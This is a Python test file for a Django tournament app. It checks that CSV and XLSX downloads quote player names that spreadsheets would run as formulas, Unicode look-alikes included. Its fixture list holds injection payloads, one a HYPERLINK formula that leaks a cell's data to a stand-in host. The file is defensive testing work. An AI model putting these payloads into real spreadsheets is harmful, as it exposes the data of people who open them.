"""Formula injection: a name that a spreadsheet would run as a formula is text in every download.

The standings, rankings and season downloads (CSV and XLSX) and the roster as django-import-export
writes it: in both, a text cell starting with =, +, -, @, a tab or a carriage return, or a
look-alike of them (full-width, small, superscript or subscript forms, the minus sign), gets a
leading single quote; in XLSX every text cell is a string cell too (no <f> formula); numbers,
negative ones too, stay numbers in both.
"""

from __future__ import annotations

import csv
import datetime
import io
import zipfile

import openpyxl
import pytest
from import_export.mixins import BaseExportMixin

from clubs.models import Player
from clubs.resources import PlayerResource
from config.spreadsheets import csv_cell, xlsx_bytes
from tests.support.standings import _play
from tournaments import services
from tournaments.models import Season

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcmd",
    "\rcmd",
    # Look-alikes that NFKC reads as the signs: full-width, small and superscript forms.
    '\uff1dHYPERLINK("http://evil.example/")',  # ＝
    "\uff0bSUM(1,2)",  # ＋
]
# Every other look-alike the check reads as a formula start, each written out by hand.
LOOKALIKES = [
    "\uff0d2+3",  # － full-width hyphen-minus
    "\uff20SUM(A1:A9)",  # ＠
    "\ufe661+2",  # ﹦ small equals
    "\ufe621+2",  # ﹢ small plus
    "\ufe631+2",  # ﹣ small hyphen-minus
    "\ufe6bSUM(A1)",  # ﹫ small commercial at
    "\u207c1+2",  # ⁼ superscript equals
    "\u207a1+2",  # ⁺ superscript plus
    "\u207b1+2",  # ⁻ superscript minus (NFKC: the minus sign)
    "\u208c1+2",  # ₌ subscript equals
    "\u22121+2",  # − the minus sign itself
]
# Text that only looks unusual: full-width letters and digits, a sign not at the start.
NOT_FORMULAS = ["\uff21nn", "\uff11\uff12\uff13", "Ann \uff1d Bob", "Ze\u2212ev"]


@pytest.fixture
def hostile_night(club, league_night):
    """The league night, played, with its eight players named as formulas."""
    players = list(Player.objects.filter(participations__event=league_night).order_by("pk")[: len(HOSTILE)])
    for player, name in zip(players, HOSTILE, strict=True):
        Player.objects.filter(pk=player.pk).update(name=name)
    season = Season.objects.create(club=club, name="Autumn", best_n=3)
    league_night.season = season
    league_night.save(update_fields=["season"])
    _play(league_night)
    services.ratings_rebuild(club_id=club.pk)  # the ranking reads the rated games
    return league_night


def _urls(club, event):
    season = Season.objects.get(club=club)
    return [
        f"/events/{event.pk}/standings/",
        f"/clubs/{club.slug}/rankings/?season=all",
        f"/seasons/{season.pk}/",
    ]


def _get(client, url, export_format):
    joiner = "&" if "?" in url else "?"
    response = client.get(f"{url}{joiner}_export={export_format}")
    assert response.status_code == 200
    return response.content


def _xml(text: str) -> str:
    # XML reads a carriage return in text as a line feed (and so do spreadsheet programs).
    return text.replace("\r", "\n")


def test_csv_cells_quote_formula_starts_and_keep_numbers():
    assert [csv_cell(name) for name in HOSTILE] == [f"'{name}" for name in HOSTILE]
    assert [csv_cell(name) for name in LOOKALIKES] == [f"'{name}" for name in LOOKALIKES]
    assert [csv_cell(text) for text in NOT_FORMULAS] == NOT_FORMULAS
    assert csv_cell("Ann") == "Ann"
    assert csv_cell(-380) == -380
    assert csv_cell(None) == ""


def test_xlsx_cells_quote_formula_starts_as_the_csv_does_and_keep_numbers_and_dates():
    day = datetime.date(2026, 11, 29)
    content = xlsx_bytes(
        [["Name", "Points", "Day"], *([name, -380, day] for name in HOSTILE), ["Ann", 5, None]], title="t"
    )
    rows = list(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2, values_only=True))
    assert [row[0] for row in rows] == [_xml(f"'{name}") for name in HOSTILE] + ["Ann"]
    assert [row[1] for row in rows] == [-380] * len(HOSTILE) + [5]
    assert rows[0][2].date() == day  # a date cell, read back as a datetime


def test_every_csv_download_writes_hostile_names_as_quoted_text_and_numbers_as_numbers(
    client, club, hostile_night, bob
):
    client.force_login(bob)
    for url in _urls(club, hostile_night):
        rows = list(csv.reader(io.StringIO(_get(client, url, "csv").decode("utf-8-sig"))))
        cells = {cell for row in rows[1:] for cell in row}
        for name in HOSTILE:
            assert f"'{name}" in cells, (url, name)
            assert name not in cells, (url, name)
        numbers = [cell for row in rows[1:] for cell in row if cell.lstrip("-").isdigit()]
        assert numbers, url
        # The standings and the season have negative point differences: written as numbers.
        if "rankings" not in url:
            assert any(cell.startswith("-") for cell in numbers), url


def test_every_xlsx_download_writes_text_cells_as_text_and_numbers_as_numbers(
    client, club, hostile_night, bob
):
    client.force_login(bob)
    for url in _urls(club, hostile_night):
        content = _get(client, url, "xlsx")
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet_xml and "<f " not in sheet_xml, url
        cells = [
            cell for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row
        ]
        by_value = {cell.value: cell for cell in cells if cell.value is not None}
        for name in HOSTILE:
            # Typed as text, and quoted as in the CSV: re-edited, or saved as CSV by a
            # spreadsheet program, a cell typed as text can become a formula again.
            assert by_value[_xml(f"'{name}")].data_type == "s", (url, name)
            assert _xml(name) not in by_value, (url, name)
        numbers = [cell.value for cell in cells if cell.data_type == "n" and cell.value is not None]
        assert numbers and all(isinstance(value, int | float) for value in numbers), url
        if "rankings" not in url:
            assert min(numbers) < 0, url


def test_the_roster_exported_by_django_import_export_keeps_names_as_text(club, hostile_night):
    dataset = PlayerResource(club=club).export()
    formats = BaseExportMixin().get_export_formats()
    assert {fmt.__name__ for fmt in formats} == {"SafeCSV", "SafeXLSX"}
    for fmt in formats:
        content = fmt().export_data(dataset)
        if isinstance(content, str):
            cells = {cell for row in csv.reader(io.StringIO(content)) for cell in row}
            assert {f"'{name}" for name in HOSTILE} <= cells
            assert not set(HOSTILE) & cells
        else:
            sheet = openpyxl.load_workbook(io.BytesIO(content)).active
            typed = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
            assert all(typed[_xml(f"'{name}")] == "s" for name in HOSTILE)
            assert not {_xml(name) for name in HOSTILE} & set(typed)


@pytest.mark.parametrize(("language", "separator"), [("es", ";"), ("el", ";"), ("en", ","), ("ar", ",")])
def test_a_csv_opens_in_columns_where_the_page_s_language_expects_semicolons(
    client, club, hostile_night, bob, language, separator
):
    # Spanish and Greek spreadsheets read ";" between cells (their decimal mark is the comma).
    client.force_login(bob)
    response = client.get(f"/events/{hostile_night.pk}/standings/?_export=csv", HTTP_ACCEPT_LANGUAGE=language)
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=separator))
    assert len({len(row) for row in rows}) == 1 and len(rows[0]) > 5  # every row split into its columns
    assert any(cell.lstrip("-").isdigit() for cell in rows[1])  # numbers still numbers
